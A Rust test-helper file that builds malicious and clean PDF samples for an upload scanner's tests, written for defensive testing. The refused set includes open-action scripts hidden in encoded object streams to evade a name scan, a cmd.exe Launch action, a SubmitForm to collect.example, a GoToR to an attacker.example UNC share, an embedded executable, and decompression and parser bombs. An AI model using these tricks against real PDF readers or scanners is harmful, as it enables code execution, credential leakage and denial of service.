//! Builds the PDFs of S7's tricks: each a well-formed file (real offsets, a cross-reference
//! table or stream) that a reader such as Chromium's opens, carrying its active content in one
//! of the ways an independent review got past the old name scan, and a few clean ones. Shared by
//! coop-core's tests, the server's, and `examples/pdf_tricks.rs`, which writes them to the fuzz
//! corpus.
#![allow(dead_code, reason = "each user takes the tricks it needs")]

use std::io::Write;

/// How a compressed object stream is encoded.
#[derive(Debug, Clone, Copy)]
pub enum Encoding {
    None,
    Flate,
    AsciiHex,
    Lzw,
    /// ASCIIHex over Flate: two filters in a row.
    HexOverFlate,
    /// Flate with the PNG "Up" predictor, 4 columns.
    FlatePredictor,
}

pub fn flate(data: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    let _ = encoder.write_all(data);
    encoder.finish().unwrap_or_default()
}

fn hex(data: &[u8]) -> Vec<u8> {
    let mut out: Vec<u8> = data
        .iter()
        .flat_map(|b| format!("{b:02X}").into_bytes())
        .collect();
    out.push(b'>');
    out
}

fn lzw(data: &[u8]) -> Vec<u8> {
    weezl::encode::Encoder::with_tiff_size_switch(weezl::BitOrder::Msb, 8)
        .encode(data)
        .unwrap_or_default()
}

/// PNG "Up" rows of 4 bytes: each row the difference to the one above.
fn up_predicted(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut previous = [0u8; 4];
    for chunk in data.chunks(4) {
        let mut row = [0u8; 4];
        for (slot, byte) in row.iter_mut().zip(chunk) {
            *slot = *byte;
        }
        out.push(2);
        for (byte, above) in row.iter().zip(previous) {
            out.push(byte.wrapping_sub(above));
        }
        previous = row;
    }
    out
}

fn encode(encoding: Encoding, data: &[u8]) -> (String, Vec<u8>) {
    match encoding {
        Encoding::None => (String::new(), data.to_vec()),
        Encoding::Flate => ("/Filter /FlateDecode".into(), flate(data)),
        Encoding::AsciiHex => ("/Filter /ASCIIHexDecode".into(), hex(data)),
        Encoding::Lzw => ("/Filter /LZWDecode".into(), lzw(data)),
        Encoding::HexOverFlate => (
            "/Filter [/ASCIIHexDecode /FlateDecode]".into(),
            hex(&flate(data)),
        ),
        Encoding::FlatePredictor => (
            "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>".into(),
            flate(&up_predicted(data)),
        ),
    }
}

/// One indirect object's body (what stands between `N 0 obj` and `endobj`).
pub fn stream(dictionary: &str, data: &[u8]) -> Vec<u8> {
    let mut out = format!("<< {dictionary} /Length {} >>\nstream\n", data.len()).into_bytes();
    out.extend_from_slice(data);
    out.extend_from_slice(b"\nendstream");
    out
}

/// A page that says `text`, as a Flate content stream.
fn content(text: &str) -> Vec<u8> {
    let text = text.replace('\\', "").replace(['(', ')'], "");
    stream(
        "/Filter /FlateDecode",
        &flate(format!("BT /F1 24 Tf 72 700 Td ({text}) Tj ET").as_bytes()),
    )
}

/// A plain one-page PDF that says `text`: what tests upload as an ordinary document.
pub fn page(text: &str) -> Vec<u8> {
    Doc {
        text: text.to_owned(),
        ..Doc::default()
    }
    .build()
}

/// A document: its catalogue's and page's extra entries, extra objects from number 5, and
/// objects kept in an object stream (then the cross-reference is a stream).
#[derive(Debug, Default, Clone)]
pub struct Doc {
    pub catalog: String,
    pub page: String,
    /// Objects 5, 6, … as they are.
    pub objects: Vec<Vec<u8>>,
    /// Objects after those, inside one object stream with this encoding.
    pub compressed: Vec<String>,
    pub encoding: Option<Encoding>,
    /// Text put into the object stream's dictionary after `/Type /ObjStm`.
    pub objstm_padding: usize,
    /// Raw bytes written before object 1 (comments and the like).
    pub prelude: Vec<u8>,
    /// What the page says.
    pub text: String,
}

impl Doc {
    /// The file.
    pub fn build(&self) -> Vec<u8> {
        let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
        out.extend_from_slice(&self.prelude);
        let mut bodies: Vec<Vec<u8>> = vec![
            format!("<< /Type /Catalog /Pages 2 0 R {} >>", self.catalog).into_bytes(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
            format!(
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R {} >>",
                self.page
            )
            .into_bytes(),
            content(if self.text.is_empty() {
                "Study permit F123456789"
            } else {
                &self.text
            }),
        ];
        bodies.extend(self.objects.iter().cloned());
        let first_compressed = bodies.len() + 1;
        let container = first_compressed + self.compressed.len();
        if let Some(encoding) = self.encoding {
            let mut index = String::new();
            let mut data = String::new();
            for (i, object) in self.compressed.iter().enumerate() {
                index.push_str(&format!("{} {} ", first_compressed + i, data.len()));
                data.push_str(object);
                data.push(' ');
            }
            let plain = format!("{index}{data}");
            let (filter, encoded) = encode(encoding, plain.as_bytes());
            let dictionary = format!(
                "/Type /ObjStm{} /N {} /First {} {filter}",
                " ".repeat(self.objstm_padding),
                self.compressed.len(),
                index.len()
            );
            // The compressed objects' numbers are taken; the container follows them.
            for _ in &self.compressed {
                bodies.push(Vec::new());
            }
            bodies.push(stream(&dictionary, &encoded));
        }
        let mut offsets = Vec::new();
        for (i, body) in bodies.iter().enumerate() {
            let number = i + 1;
            if body.is_empty() {
                offsets.push(None);
                continue;
            }
            offsets.push(Some(out.len()));
            out.extend_from_slice(format!("{number} 0 obj\n").as_bytes());
            out.extend_from_slice(body);
            out.extend_from_slice(b"\nendobj\n");
        }
        let start = out.len();
        if self.encoding.is_none() {
            out.extend_from_slice(
                format!("xref\n0 {}\n0000000000 65535 f \n", bodies.len() + 1).as_bytes(),
            );
            for offset in &offsets {
                out.extend_from_slice(format!("{:010} 00000 n \n", offset.unwrap_or(0)).as_bytes());
            }
            out.extend_from_slice(
                format!(
                    "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n",
                    bodies.len() + 1
                )
                .as_bytes(),
            );
            return out;
        }
        // A cross-reference stream: type 1 (offset) or 2 (container, index) per object.
        let xref_number = bodies.len() + 1;
        let mut entries = vec![0u8, 0, 0, 0, 0, 0xFF, 0xFF];
        for (i, offset) in offsets.iter().enumerate() {
            match offset {
                Some(at) => {
                    entries.push(1);
                    entries.extend_from_slice(&u32::try_from(*at).unwrap_or(0).to_be_bytes());
                    entries.extend_from_slice(&[0, 0]);
                }
                None => {
                    entries.push(2);
                    entries.extend_from_slice(&u32::try_from(container).unwrap_or(0).to_be_bytes());
                    let index = u16::try_from(i + 1 - first_compressed).unwrap_or(0);
                    entries.extend_from_slice(&index.to_be_bytes());
                }
            }
        }
        entries.push(1);
        entries.extend_from_slice(&u32::try_from(start).unwrap_or(0).to_be_bytes());
        entries.extend_from_slice(&[0, 0]);
        out.extend_from_slice(format!("{xref_number} 0 obj\n").as_bytes());
        out.extend_from_slice(&stream(
            &format!(
                "/Type /XRef /Size {} /W [1 4 2] /Root 1 0 R",
                xref_number + 1
            ),
            &entries,
        ));
        out.extend_from_slice(format!("\nendobj\nstartxref\n{start}\n%%EOF\n").as_bytes());
        out
    }
}

const SCRIPT: &str = "<< /S /JavaScript /JS (app.alert\\('S7'\\)) >>";

/// A script run on opening, kept in an object stream encoded so.
pub fn script_in_object_stream(encoding: Encoding) -> Vec<u8> {
    Doc {
        catalog: "/OpenAction 5 0 R".into(),
        compressed: vec![SCRIPT.into()],
        encoding: Some(encoding),
        ..Doc::default()
    }
    .build()
}

/// An object stream that decodes to `inflated` bytes of spaces after its one object: a bomb of
/// about a thousandth of that size.
pub fn object_stream_bomb(inflated: usize) -> Vec<u8> {
    let mut doc = Doc {
        compressed: vec!["<< /Producer (scanner) >>".to_owned()],
        encoding: Some(Encoding::Flate),
        ..Doc::default()
    };
    doc.compressed.push(" ".repeat(inflated));
    doc.build()
}

/// Every trick that must be refused, by name.
pub fn refused() -> Vec<(&'static str, Vec<u8>)> {
    let action = |body: &str| Doc {
        catalog: "/OpenAction 5 0 R".into(),
        objects: vec![body.as_bytes().to_vec()],
        ..Doc::default()
    };
    vec![
        ("open-action-script", action(SCRIPT).build()),
        (
            // A comment saying "stream" with no endstream: the old scan took the rest of the
            // file for stream data.
            "stream-comment",
            Doc {
                prelude: b"%stream\n".to_vec(),
                ..action(SCRIPT)
            }
            .build(),
        ),
        ("objstm-flate", script_in_object_stream(Encoding::Flate)),
        ("objstm-plain", script_in_object_stream(Encoding::None)),
        (
            "objstm-asciihex",
            script_in_object_stream(Encoding::AsciiHex),
        ),
        ("objstm-lzw", script_in_object_stream(Encoding::Lzw)),
        (
            "objstm-two-filters",
            script_in_object_stream(Encoding::HexOverFlate),
        ),
        (
            "objstm-predictor",
            script_in_object_stream(Encoding::FlatePredictor),
        ),
        (
            "objstm-padded-dictionary",
            Doc {
                catalog: "/OpenAction 5 0 R".into(),
                compressed: vec![SCRIPT.into()],
                encoding: Some(Encoding::Flate),
                objstm_padding: 3000,
                ..Doc::default()
            }
            .build(),
        ),
        (
            "escaped-name",
            action("<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>").build(),
        ),
        ("launch", action("<< /S /Launch /F (cmd.exe) >>").build()),
        (
            "submit-form",
            action("<< /S /SubmitForm /F (https://collect.example/) >>").build(),
        ),
        (
            "import-data",
            action("<< /S /ImportData /F (answers.fdf) >>").build(),
        ),
        (
            "goto-remote-unc",
            action(
                "<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\next.pdf) /D [0 /Fit] >>",
            )
            .build(),
        ),
        (
            "goto-embedded",
            action("<< /S /GoToE /T << /R /C /N (inner) >> >>").build(),
        ),
        (
            "xfa-form",
            Doc {
                catalog: "/AcroForm << /Fields [] /XFA 5 0 R >>".into(),
                objects: vec![stream(
                    "",
                    b"<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>",
                )],
                ..Doc::default()
            }
            .build(),
        ),
        (
            "annotation-script",
            Doc {
                page: "/Annots [5 0 R]".into(),
                objects: vec![
                    format!("<< /Type /Annot /Subtype /Link /Rect [72 72 200 100] /A {SCRIPT} >>")
                        .into_bytes(),
                ],
                ..Doc::default()
            }
            .build(),
        ),
        (
            "page-additional-action",
            Doc {
                page: format!("/AA << /O {SCRIPT} >>"),
                ..Doc::default()
            }
            .build(),
        ),
        (
            "embedded-file",
            Doc {
                catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>".into(),
                objects: vec![b"<< /Type /Filespec /F (a.exe) >>".to_vec()],
                ..Doc::default()
            }
            .build(),
        ),
        (
            "unknown-filter",
            Doc {
                page: "/Resources << /XObject << /X1 5 0 R >> >>".into(),
                objects: vec![stream(
                    "/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Filter /MysteryDecode",
                    b"??",
                )],
                ..Doc::default()
            }
            .build(),
        ),
        ("objstm-bomb", object_stream_bomb(20 * 1024 * 1024)),
        (
            "content-bomb",
            Doc {
                page: "/Resources << /XObject << /X1 5 0 R >> >>".into(),
                objects: vec![stream(
                    "/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Filter /FlateDecode",
                    &flate(&vec![b' '; 80 * 1024 * 1024]),
                )],
                ..Doc::default()
            }
            .build(),
        ),
        (
            "not-a-pdf-structure",
            b"%PDF-1.7\n<< /Type /Catalog >>\n%%EOF\n".to_vec(),
        ),
    ]
}

/// Files that must pass: a plain page, a link to a web page, a JPEG image, an object stream.
pub fn accepted() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("plain", Doc::default().build()),
        (
            "uri-link",
            Doc {
                page: "/Annots [5 0 R]".into(),
                objects: vec![b"<< /Type /Annot /Subtype /Link /Rect [72 72 200 100] /A << /S /URI /URI (https://www.canada.ca/en/immigration-refugees-citizenship.html) >> >>".to_vec()],
                ..Doc::default()
            }
            .build(),
        ),
        (
            "jpeg-image",
            Doc {
                page: "/Resources << /XObject << /Im1 5 0 R >> >>".into(),
                objects: vec![stream(
                    "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode",
                    &[0xFF, 0xD8, 0xFF, 0xD9],
                )],
                ..Doc::default()
            }
            .build(),
        ),
        (
            "object-stream",
            Doc {
                catalog: "/Metadata 5 0 R".into(),
                compressed: vec!["<< /Producer (Office scanner) >>".into()],
                encoding: Some(Encoding::Flate),
                ..Doc::default()
            }
            .build(),
        ),
    ]
}

/// A file whose cross-reference stream claims a field a terabyte wide: the parser allocates it
/// and the process dies. Never inspected in a test's own process — the server inspects in a
/// child with limits, which this one must reach and be refused by (`upload_bombs.rs`).
pub fn parser_bomb() -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    out.extend_from_slice(b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n");
    out.extend_from_slice(b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n");
    let start = out.len();
    out.extend_from_slice(b"3 0 obj\n");
    out.extend_from_slice(&stream(
        "/Type /XRef /Size 4 /W [1099511627776 4 2] /Root 1 0 R",
        &[1, 0, 0, 0, 9, 0, 0],
    ));
    out.extend_from_slice(format!("\nendobj\nstartxref\n{start}\n%%EOF\n").as_bytes());
    out
}
